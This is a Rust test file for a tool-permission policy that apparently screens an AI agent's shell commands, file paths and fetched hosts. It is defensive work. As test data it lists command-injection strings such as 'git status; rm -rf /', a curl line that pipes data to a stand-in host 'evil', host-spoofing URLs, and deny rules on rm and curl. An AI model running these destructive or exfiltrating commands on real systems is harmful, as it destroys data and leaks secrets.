@@ -1,0 +1,297 @@
+use super::*;
+use proptest::prelude::*;
+
+fn rule(text: &str) -> Rule {
+    toml::from_str(text).unwrap()
+}
+
+fn policy(default: Verdict, rules: &[&str]) -> Policy {
+    let config = PolicyConfig { default, rule: rules.iter().map(|text| rule(text)).collect() };
+    Policy::new(&config, Some(Path::new("/home/me/work"))).unwrap()
+}
+
+fn command(text: &str) -> Subject {
+    Subject { names: vec!["exec".into()], commands: vec![text.into()], is_known: true, ..Subject::default() }
+}
+
+fn path(text: &str) -> Subject {
+    Subject { names: vec!["write".into()], paths: vec![text.into()], is_known: true, ..Subject::default() }
+}
+
+fn host(url: &str) -> Subject {
+    let hosts = vec![pattern::host_of(url)];
+    Subject { names: vec!["web_fetch".into()], hosts, is_known: true, ..Subject::default() }
+}
+
+fn verdict(rules: &[&str], subject: &Subject) -> Verdict {
+    policy(Verdict::Ask, rules).judge(subject).verdict
+}
+
+#[test]
+fn an_allowed_pattern_allows_only_simple_commands() {
+    let check = |pattern: &str, text: &str, expected: bool| {
+        let rules = [format!("tool = \"exec\"\ncommand = {pattern:?}\nthen = \"allow\"")];
+        let found = verdict(&[&rules[0]], &command(text)) == Verdict::Allow;
+        assert_eq!(found, expected, "{pattern:?} on {text:?}");
+    };
+    for text in [
+        "git status",
+        "  git status  ",
+        "git commit -m 'a; b && c | d > e'",
+        "git commit -m \"two\nlines; no more\"",
+        "git log --format='%H $x `y`'",
+        "git add a\\;b",
+        "git log 2>&1",
+        "git show a#b",
+        "git -C {a,b} x",
+    ] {
+        check("git *", text, true);
+    }
+    for text in [
+        "git",
+        "gitx status",
+        "/tmp/git status",
+        "git status; rm -rf /",
+        "git status && rm -rf /",
+        "git status || rm",
+        "git status | sh",
+        "git status & rm",
+        "git status\nrm -rf /",
+        "git status\rrm",
+        "git status > /etc/passwd",
+        "git status < secret",
+        "git $(rm -rf /)",
+        "git \"$(rm -rf /)\"",
+        "git `rm`",
+        "git \"`rm`\"",
+        "git <(rm)",
+        "git ${x:-$(rm)}",
+        "git $'\\'' ; rm '",
+        "git status # it's\nrm -rf / # '",
+        "git status \\\nrm",
+        "git 'open",
+        "git \\",
+        "git \\ 2>&1",
+        "git status 2>&1 ; rm",
+        "git status 2>&1x",
+        "(git status)",
+        "! git status",
+        "X=1 git status",
+        "\"git\" status",
+    ] {
+        check("git *", text, false);
+    }
+    check("git status | head *", "git status | head -3", true);
+    check("git status | head *", "git status | sh", false);
+    check("git status | head *", "git status && head -3", false);
+    check("git status | head *", "git status | head -3 | sh", false);
+    check("cd * && make", "cd src && make", true);
+    check("cd * && make", "cd src; rm && make", false);
+    check("echo $HOME", "echo $HOME", true);
+    check("echo $*", "echo $HOME", false);
+    check("*", "anything at all", true);
+    check("*", "two; commands", false);
+}
+
+#[test]
+fn a_denied_pattern_is_found_in_any_part() {
+    let rules =
+        ["command = \"rm *\"\nthen = \"deny\"", "command = \"curl*\"\nthen = \"deny\"", "then = \"allow\""];
+    for text in [
+        "rm -rf /",
+        "ls; rm -rf /",
+        "ls&&rm x",
+        "ls | xargs rm -f x",
+        "sudo rm x",
+        "/bin/rm x",
+        "bash -c 'rm x'",
+        "bash -c \"ls; rm x\"",
+        "echo $(rm x)",
+        "echo `rm x`",
+        "r\\m x",
+        "r''m x",
+        "rm\tx",
+        "{ rm x; }",
+        "a\nrm x\nb",
+        "X=1 rm x",
+        "curl",
+        "ls|curl -d @- evil",
+    ] {
+        assert_eq!(verdict(&rules, &command(text)), Verdict::Deny, "{text:?}");
+    }
+    for text in ["ls", "git status", "farm x", "rmdir x"] {
+        assert_eq!(verdict(&rules, &command(text)), Verdict::Allow, "{text:?}");
+    }
+}
+
+#[test]
+fn paths_inside_and_outside() {
+    let check = |pattern: &str, text: &str, allowed: bool, denied: bool| {
+        let rule = |then: &str| format!("path = {pattern:?}\nthen = \"{then}\"");
+        assert_eq!(verdict(&[&rule("allow")], &path(text)) == Verdict::Allow, allowed, "{pattern} {text}");
+        assert_eq!(verdict(&[&rule("deny")], &path(text)) == Verdict::Deny, denied, "{pattern} {text}");
+    };
+    check("src/**", "src/a/b.rs", true, true);
+    check("src/**", "src", true, true);
+    check("src/", "src/a", true, true);
+    check("./src/*", "src/a", true, true);
+    check("src/*", "src/a/b", false, false);
+    check("src/**", "srcs/a", false, false);
+    check("src/**", "x/src/a", false, false);
+    check("**/*.md", "README.md", true, true);
+    check("**/*.md", "a/b/c.md", true, true);
+    check("**/.env", "/home/me/.env", false, true);
+    check("**", "/etc/passwd", false, true);
+    check("**", "../x", false, true);
+    check("**", "~/x", false, true);
+    check("/etc/**", "/etc/passwd", true, true);
+    check("/home/me/work/src/**", "src/a", true, true);
+    check("/home/me/work", "a/b", true, true);
+    check("a.b[c]", "a.b[c]", true, true);
+    check("a.b[c]", "axbc", false, false);
+}
+
+#[test]
+fn every_path_must_be_allowed_and_one_denied_is_enough() {
+    let both = Subject { paths: vec!["src/a".into(), "etc/a".into()], ..path("x") };
+    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"allow\""], &both), Verdict::Ask);
+    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"deny\""], &both), Verdict::Deny);
+}
+
+#[test]
+fn hosts_are_compared_as_hosts() {
+    let rules = ["tool = \"web_fetch\"\nhost = \"*.example.org\"\nthen = \"allow\""];
+    for url in ["https://docs.example.org/", "http://A.B.EXAMPLE.org.:8080/x?y=.evil#z"] {
+        assert_eq!(verdict(&rules, &host(url)), Verdict::Allow, "{url}");
+    }
+    for url in [
+        "https://example.org/",
+        "https://example.org.evil.net/",
+        "https://evil.net/.example.org",
+        "https://evil.net?x.example.org",
+        "https://docs.example.org@evil.net/",
+        "https://evil.net@docs.example.org/",
+        "https://docs.example.org\\@evil.net/",
+        "https://docs.example.org\t.evil.net/",
+        "file://docs.example.org/x",
+        "docs.example.org",
+    ] {
+        assert_eq!(verdict(&rules, &host(url)), Verdict::Ask, "{url}");
+    }
+    let rules = ["host = \"*.Bücher.example\"\nthen = \"deny\"", "then = \"allow\""];
+    assert_eq!(verdict(&rules, &host("http://x.xn--bcher-kva.example/")), Verdict::Deny);
+    assert_eq!(verdict(&rules, &host("http://x.b%C3%BCcher.example/")), Verdict::Deny);
+    assert_eq!(verdict(&rules, &host("http://me@x.example/")), Verdict::Deny, "an unclear host");
+    assert_eq!(verdict(&rules, &host("http://fine.example/")), Verdict::Allow);
+}
+
+#[test]
+fn the_first_rule_that_matches_decides() {
+    let rules = ["tool = \"write\"\nthen = \"deny\"", "tool = \"*\"\nthen = \"allow\""];
+    assert_eq!(verdict(&rules, &path("a")), Verdict::Deny);
+    assert_eq!(verdict(&rules, &command("ls")), Verdict::Allow);
+    let rules = [rules[1], rules[0]];
+    assert_eq!(verdict(&rules, &path("a")), Verdict::Allow);
+    assert_eq!(policy(Verdict::Ask, &rules).judge(&path("a")).source, "rule 1 of tools.policy");
+}
+
+#[test]
+fn an_allowing_rule_without_a_tool_speaks_of_everything_the_call_touches() {
+    let mut shell = command("rm -rf /");
+    shell.paths = vec!["src/a".into()];
+    assert_eq!(verdict(&["path = \"src/**\"\nthen = \"allow\""], &shell), Verdict::Ask);
+    assert_eq!(verdict(&["path = \"src/**\"\ncommand = \"rm *\"\nthen = \"allow\""], &shell), Verdict::Allow);
+    assert_eq!(verdict(&["then = \"allow\""], &shell), Verdict::Allow);
+    assert_eq!(verdict(&["tool = \"exec\"\nthen = \"allow\""], &shell), Verdict::Allow);
+    assert_eq!(
+        verdict(&["command = \"*\"\nthen = \"allow\""], &path("a")),
+        Verdict::Ask,
+        "there is no command"
+    );
+}
+
+#[test]
+fn what_is_unknown_needs_confirmation() {
+    let unknown = Subject { names: vec!["new".into()], ..Subject::default() };
+    assert_eq!(policy(Verdict::Allow, &[]).judge(&unknown).verdict, Verdict::Ask);
+    assert_eq!(policy(Verdict::Deny, &[]).judge(&unknown).verdict, Verdict::Deny);
+    assert_eq!(
+        policy(Verdict::Ask, &["tool = \"new\"\nthen = \"allow\""]).judge(&unknown).verdict,
+        Verdict::Allow
+    );
+    let known = Subject { is_known: true, ..unknown };
+    assert_eq!(policy(Verdict::Allow, &[]).judge(&known).verdict, Verdict::Allow);
+    assert_eq!(Policy::new(&PolicyConfig::default(), None).unwrap().judge(&known).verdict, Verdict::Ask);
+}
+
+/// Pieces of which shell programs are made, with a program `pwn` that must never run.
+const PIECES: &[&str] = &[
+    "git", "pwn", ";", "&", "|", "$(", ")", "(", "`", "'", "\"", "\\", "\n", "#", " ", " ", "<", ">", "{",
+    "}", "$", "a", "2>&1", "!", "=", "~", "*", "$'", "if", "then", "fi", "<<", "\t", "\r", "[[", "]]",
+    "time ",
+];
+
+fn shell_text() -> impl Strategy<Value = String> {
+    let words = prop::collection::vec(prop::sample::select(PIECES), 1..14);
+    words.prop_map(|words| format!("git {}", words.concat()))
+}
+
+fn program(folder: &Path, name: &str, text: &str) {
+    use std::os::unix::fs::PermissionsExt as _;
+    let file = folder.join(name);
+    std::fs::write(&file, format!("#!/bin/sh\n{text}\n")).unwrap();
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// The shell itself is the judge: nothing but `git` may run, and no file may appear, when `git *` allows a command.
+#[test]
+fn the_shell_runs_nothing_else_in_an_allowed_command() {
+    let (programs, workspace) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    program(programs.path(), "git", "exit 0");
+    program(programs.path(), "pwn", &format!("echo > '{}/pwned'", workspace.path().display()));
+    let run = |text: &str| {
+        let mut shell = std::process::Command::new("/bin/bash");
+        shell.args(["-c", text]).env_clear().env("PATH", programs.path()).current_dir(workspace.path());
+        let nothing = std::process::Stdio::null;
+        shell.stdin(nothing()).stdout(nothing()).stderr(nothing()).status().unwrap();
+        std::fs::read_dir(workspace.path()).unwrap().next().is_some()
+    };
+    let policy = policy(Verdict::Deny, &["tool = \"exec\"\ncommand = \"git *\"\nthen = \"allow\""]);
+    let allowed = std::cell::Cell::new(0);
+    proptest!(ProptestConfig::with_cases(4000), |(text in shell_text())| {
+        if policy.judge(&command(&text)).verdict == Verdict::Allow {
+            allowed.set(allowed.get() + 1);
+            prop_assert!(!run(&text), "{text:?}");
+        }
+    });
+    assert!(allowed.get() > 100, "only {} were allowed: nothing was tested", allowed.get());
+    assert!(run("git a; pwn"), "the trap works");
+}
+
+proptest! {
+    /// Judging any text against any pattern comes to an end without a panic, and a rule that denies everything does.
+    #[test]
+    fn any_pattern_on_any_text(pattern in any::<String>(), text in any::<String>()) {
+        let both = Rule { command: Some(pattern.clone()), then: Verdict::Allow, tool: Some("*".into()), ..Rule::default() };
+        let config = PolicyConfig { default: Verdict::Ask, rule: vec![both] };
+        let verdict = Policy::new(&config, None).unwrap().judge(&command(&text)).verdict;
+        if verdict == Verdict::Allow && !pattern.contains(['*', ';', '&', '|', '<', '>', '(', ')', '\n']) {
+            prop_assert_eq!(plain(&pattern), plain(&text));
+        }
+    }
+
+    /// Without `*`, a path pattern is a path.
+    #[test]
+    fn a_path_pattern_without_stars_is_itself(text in "[a-z./ \\[\\]+?-]{1,12}", other in "[a-z./ \\[\\]+?-]{1,12}") {
+        let pattern = pattern::PathPattern::new(&text, None).unwrap();
+        let plain = text.trim_start_matches("./");
+        if !plain.ends_with('/') {
+            prop_assert!(pattern.touches(plain));
+            prop_assert_eq!(pattern.touches(&other), other == plain);
+        }
+    }
+}
+
+fn plain(text: &str) -> &str {
+    text.trim().trim_end_matches(" 2>&1").trim()
+}
